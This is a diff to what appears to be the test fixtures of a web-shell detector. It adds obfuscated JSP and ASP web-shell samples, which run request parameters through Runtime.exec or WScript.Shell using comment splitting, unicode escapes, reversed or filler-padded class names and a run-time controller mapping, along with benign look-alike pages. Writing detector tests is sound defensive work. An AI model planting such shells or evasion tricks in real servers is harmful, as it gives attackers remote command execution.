@@ -259,6 +259,44 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b'<form runat="server"><asp:FileUpload id="Up" runat="server"/></form>',
         "file written at a request-chosen path",
     ),
+    "jsp_comment_between_tokens": (
+        "cm.jsp",
+        b'<% String c = request.getParameter("c");\n'
+        b"Runtime/**/.getRuntime()/* x */.exec(c); %>",
+        "request data → Runtime.exec",
+    ),
+    "jsp_few_unicode_escapes": (
+        "ue.jsp",
+        b'<% String c = request.getParameter("c");\n'
+        b"Runtime.getRuntime().\\u0065xec(c); %>",
+        "request data → Runtime.exec",
+    ),
+    "jsp_spring_controller": (
+        "sp.jsp",
+        b"<%! public class Evil { public void run(HttpServletRequest r) throws Exception {\n"
+        b'    Runtime.getRuntime().exec(r.getParameter("c")); } } %>\n'
+        b"<% Object m = ctx.getBean(RequestMappingHandlerMapping.class);\n"
+        b"((RequestMappingHandlerMapping) m).registerMapping(info, new Evil(), method); %>",
+        "controller mapping at run time",
+    ),
+    "jsp_static_include_data": (
+        "si.jsp",
+        b'<%@ page import="java.io.*" %><%@ include file="/images/logo.png" %>',
+        "compiles a data file into the page",
+    ),
+    "jsp_reversed_name": (
+        "rv.jsp",
+        b'<% String c = request.getParameter("c");\n'
+        b'Object rt = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());'
+        b" %>",
+        "'java.lang.runtime' hidden reversed",
+    ),
+    "asp_replaced_name": (
+        "rp.asp",
+        b'<% Set o = Server.CreateObject(Replace("WScr#ipt.Sh#ell", "#", ""))\n'
+        b'o.Run Request("c"), 0, True %>',
+        "'wscript.shell' hidden behind filler",
+    ),
 }
 
 BENIGN: dict[str, tuple[str, bytes]] = {
@@ -323,6 +361,20 @@ BENIGN: dict[str, tuple[str, bytes]] = {
         b'<% java.net.Socket s = new java.net.Socket("smtp.example.org", 25);\n'
         b"s.getOutputStream().write(\"HELO example.org\\r\\n\".getBytes());\n"
         b'String who = request.getParameter("who"); %>',
+    ),
+    "jsp_accept_header_and_css": (
+        "h.jsp",
+        b'<style>/* layout */ body { margin: 0 }</style><% response.setHeader("Accept", "*/*");\n'
+        b'String q = request.getParameter("q"); out.print(q.length()); /* done */ %>',
+    ),
+    "jsp_static_include_fragment": (
+        "layout.jsp",
+        b'<%@ include file="/WEB-INF/jspf/header.jspf" %><%= request.getParameter("t") %>',
+    ),
+    "jsp_reverse_for_display": (
+        "rev.jsp",
+        b'<% String w = request.getParameter("w");\n'
+        b'String r = new StringBuilder("olleh").reverse().toString(); %><%= r %>',
     ),
     "aspx_upload_checked": (
         "up3.aspx",
